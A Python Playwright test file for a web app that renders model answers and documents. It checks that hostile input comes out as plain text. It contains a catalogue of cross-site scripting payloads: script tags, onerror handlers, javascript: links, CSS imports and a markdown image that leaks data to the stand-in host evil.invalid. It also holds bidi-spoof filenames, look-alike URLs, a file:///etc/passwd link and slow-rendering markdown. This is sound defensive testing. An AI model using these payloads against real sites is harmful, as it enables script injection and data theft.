"""Text from a model, a document or its metadata never becomes anything but text."""

import pytest
from playwright.sync_api import expect

from support.browser_shelf import HOSTILE, hit, view

ELSEWHERE = "evil.invalid"
TEXTS = {
    "script": "<script>alert(1)</script><script src=https://evil.invalid/x.js></script>",
    "image": "<img src=https://evil.invalid/a.png onerror=alert(1)>",
    "markdown image": "![secret](https://evil.invalid/leak?q=pump) ![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "markdown links": "[click](javascript:alert(1)) [here](https://evil.invalid/ 'title') <https://evil.invalid/>",
    "reference": '[a][1] ![b][1]\n\n[1]: https://evil.invalid/ref "t"\n\n[click]: javascript:alert(1)',
    "svg": "<svg onload=alert(1)><image href=https://evil.invalid/s.png /></svg><math><mi xlink:href='javascript:alert(1)'>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><object data=//evil.invalid></object>",
    "style": "<style>@import url(https://evil.invalid/x.css); body{background:url(//evil.invalid/b)}</style><p style=background:url(//evil.invalid)>",
    "form": "<form action=https://evil.invalid><button autofocus onfocus=alert(1)>send</button></form><base href=//evil.invalid>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.invalid/'><link rel=stylesheet href=//evil.invalid/l.css>",
    "nested": "**[_![`<img src=x onerror=alert(1)>`](https://evil.invalid/n)_](javascript:alert(1))** > - # <b onclick=alert(1)>x</b>",
    "fence": '```html"><script>alert(1)</script>\n<img src=//evil.invalid/f onerror=alert(1)>\n```\n~~~\n</code></pre><script>alert(1)</script>',
    "table": "| <img src=//evil.invalid/t> | b |\n| --- | --- |\n| [x](javascript:alert(1)) | ![y](//evil.invalid/y) |",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E; \\u003cscript\\u003e",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <template><script>alert(1)</script></template>",
    "marks": "\ue0001\ue001 \ue000999\ue001 \ue000<b>\ue001",
    "deep": "> " * 500 + "deep " + "- " * 500 + "**" * 500 + "[" * 500 + "`" * 501,
}
# Everything that a document or an answer may be made of.
ALLOWED = {
    *(
        "a",
        "article",
        "aside",
        "b",
        "blockquote",
        "button",
        "code",
        "dd",
        "del",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "form",
    ),
    *(
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "input",
        "label",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "section",
        "span",
    ),
    *("strong", "summary", "table", "tbody", "td", "th", "thead", "time", "tr", "ul"),
}
LOOK = """root => [...root.querySelectorAll('*')].map(e => [e.localName, [...e.attributes].map(a => a.name + '=' + a.value)])"""
TAGS_AND_WORDS = "\u202egpj.exe\u202c in\u200bvis\u2060ible \U000e0041tag \u2066x\u2069 a\u00adb"


def _check(locator):
    """No element outside the list, no handler, no address."""
    found = locator.evaluate(LOOK)
    assert {name for name, _ in found} <= ALLOWED
    for name, attributes in found:
        for attribute in attributes:
            key = attribute.partition("=")[0]
            assert not key.startswith("on"), (name, attribute)
            assert key not in {
                "src",
                "srcset",
                "style",
                "srcdoc",
                "action",
                "formaction",
                "background",
                "xlink:href",
            }, (name, attribute)
    return [attribute for _, attributes in found for attribute in attributes if attribute.startswith("href=")]


@pytest.mark.parametrize("name", TEXTS)
def test_an_answer_is_text_and_safe_markdown_only(hearth, house, name):
    house.model.text = TEXTS[name]
    answer = hearth.ask("What?")
    assert _check(answer.locator(".answer")) == []
    if name == "script":
        expect(answer.locator(".answer")).to_contain_text("<script>alert(1)</script>")
    if name == "markdown links":
        expect(answer.locator(".answer")).to_contain_text("[click](javascript:alert(1)) here (https://evil.invalid/)")
    hearth.page.wait_for_timeout(50)
    assert hearth.page.url == house.url + "/"
    assert hearth.seen.pages == 0
    # The house's own assertions follow: no request elsewhere, no dialog, no script error.


def test_a_hostile_document_is_text_in_list_panel_and_sources(hearth, house):
    evil = "\n".join(TEXTS.values()) + TAGS_AND_WORDS
    people = [
        {
            "id": "person-x",
            "name": "<img src=//evil.invalid onerror=alert(1)>",
            "address": "javascript:alert(1)",
            "role": "from",
        }
    ]
    link = {"permalink": "javascript:alert(1)"}
    house.shelf.views[HOSTILE] = view(
        HOSTILE,
        title=f"{TEXTS['image']}{TAGS_AND_WORDS}",
        segments=[{"text": evil, **link}, {"text": evil, "role": "quoted"}],
        participants=people,
        attachments=[
            {"document": "document-gggggggggggggggggggg", "name": TEXTS["svg"], "mediaType": TEXTS["image"], "bytes": 1}
        ],
        warnings=[{"code": "<b>x", "detail": TEXTS["script"]}],
        **link,
    )
    house.shelf.related[HOSTILE] = [
        {"document": HOSTILE, "rel": "reply", "reason": TEXTS["svg"], "title": TEXTS["image"], "kind": "email"}
    ]
    house.shelf.hits.insert(0, hit(HOSTILE, "zzz " + evil[:500], title=TEXTS["image"], permalink="data:text/html,x"))
    house.model.text = "zzz"
    answer = hearth.ask("zzz", base="work")
    assert _check(answer) == []
    panel = hearth.open_source(answer)
    assert _check(panel) == []
    expect(panel).to_contain_text("<script src=https://evil.invalid/x.js></script>")
    text = panel.inner_text() + answer.inner_text()
    assert not set(text) & set("\u202e\u202c\u200b\u2060\u2066\u2069\u00ad\U000e0041")
    assert "\ufffdgpj.exe\ufffd in" in panel.locator("#paneltitle").inner_text()
    hearth.view("Search")
    hearth.search("zzz").first.click()
    hearth.wait_opened()
    assert _check(hearth.page.locator("#results")) == []
    assert _check(hearth.panel) == []


@pytest.mark.parametrize(
    ("address", "words"),
    [
        ("https://teams.microsoft.com/l/message/1", "Open at teams.microsoft.com ↗"),
        ("https://teams.microsoft.com.evil.invalid/l", "Open at teams.microsoft.com.evil.invalid ↗"),
        ("https://аpple.com/", "Open at xn--pple-43d.com ↗"),
        ("https://teams.microsoft.com@evil.invalid/", None),
        ("mailto:helga@nordwerk.example", "Write to helga@nordwerk.example"),
        ("javascript:alert(1)//https://x", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("file:///etc/passwd", None),
        ("mid:<x@y>", None),
    ],
)
def test_a_documents_own_link_shows_where_it_really_goes(hearth, house, address, words):
    house.shelf.views[HOSTILE] = view(HOSTILE, segments=[{"text": "zzz zzz"}], permalink=address)
    house.shelf.hits.insert(0, hit(HOSTILE, "zzz zzz", title="t"))
    hearth.view("Search")
    hearth.search("zzz").first.click()
    panel = hearth.wait_opened()
    if words is None:
        assert _check(panel) == []
        return
    link = panel.locator("dl a")
    expect(link).to_have_text(words)
    expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_the_browser_itself_refuses_what_the_page_does_not_do(visit, house):
    """The policy holds even where a mistake in a script would let something through."""
    hearth = visit()
    hearth.sign_in()
    hearth.page.get_by_label("Question").wait_for()
    page = hearth.page
    assert page.evaluate("try { document.body.innerHTML = '<b>x</b>'; 'parsed' } catch (e) { e.name }") == "TypeError"
    assert page.evaluate("fetch('https://evil.invalid/x').then(() => 'sent', () => 'refused')") == "refused"
    assert (
        page.evaluate(
            "new Promise(done => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => done('refused');"
            " i.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='; document.body.append(i); })"
        )
        == "refused"
    )
    assert hearth.seen.errors, "the browser reports what it refused"
    assert all("Content Security Policy" in error or "TrustedHTML" in error for error in hearth.seen.errors)
    assert hearth.seen.outside(house.url) == [] or all("evil.invalid" in url for url in hearth.seen.outside(house.url))
    hearth.seen.errors.clear()
    hearth.seen.requests.clear()


def test_an_original_is_a_download_and_never_a_page(hearth, house):
    hearth.view("Search")
    hearth.search("budget").first.click()
    panel = hearth.wait_opened()
    with hearth.page.expect_download() as download:
        panel.get_by_role("button", name="Download the original").click()
    assert download.value.path().read_bytes() == b"<script>alert(1)</script>"
    assert hearth.seen.pages == 0
    assert hearth.page.url.startswith(house.url + "/#search")


def test_rendering_the_worst_text_takes_no_noticeable_time(hearth, house):
    worst = [
        "`" * 8000,
        "*a " * 2600,
        "[" * 7900,
        "![](" * 1900,
        "> " * 3900,
        "|" * 7000 + "\n|-|\n" + "|x" * 3000,
        "**a" * 2600,
        "~~" * 3900,
        "_a_ " * 1900,
        "- " * 3900,
        "```\n" * 1500,
        "(" * 8000,
    ]
    took = hearth.page.evaluate(
        """async (texts) => { const found = document.querySelector('script[type=module]').src.replace('app.js', 'markdown.js');
        const {render} = await import(found); const out = [];
        for (const text of texts) { const t = performance.now(); render(text); out.push(performance.now() - t); } return out; }""",
        worst,
    )
    assert max(took) < 400, took
